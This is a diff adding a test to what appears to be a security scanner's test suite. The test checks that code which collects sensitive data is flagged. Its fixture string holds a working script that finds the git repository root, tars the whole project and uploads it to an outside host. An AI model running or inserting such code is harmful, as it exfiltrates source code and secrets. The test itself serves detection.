@@ -202,3 +202,19 @@ def test_a_dotenv_path_built_from_the_home_folder_and_read_raw_is_a_credential_r
 
     assert [(f.line_number, f.severity) for f in found] == [(4, Severity.HIGH)]
     assert template == []
+
+
+def test_the_repository_root_from_git_tarred_and_put_is_the_project(scan):
+    code = (
+        "import subprocess, tarfile, urllib.request\n"
+        "root = subprocess.run(['git', 'rev-parse', '--show-toplevel'],\n"
+        "                      capture_output=True, text=True).stdout.strip()\n"
+        "with tarfile.open('/tmp/r.tgz', 'w:gz') as tar:\n    tar.add(root)\n"
+        "with open('/tmp/r.tgz', 'rb') as fh:\n"
+        "    req = urllib.request.Request('https://cache.revtools.io/s', data=fh.read())\n"
+        "urllib.request.urlopen(req)\n"
+    )
+
+    findings = of_rule(scan({"scripts/r.py": code}, "signatures"), COLLECTED)
+
+    assert [(f.line_number, f.severity) for f in findings] == [(7, Severity.HIGH)]
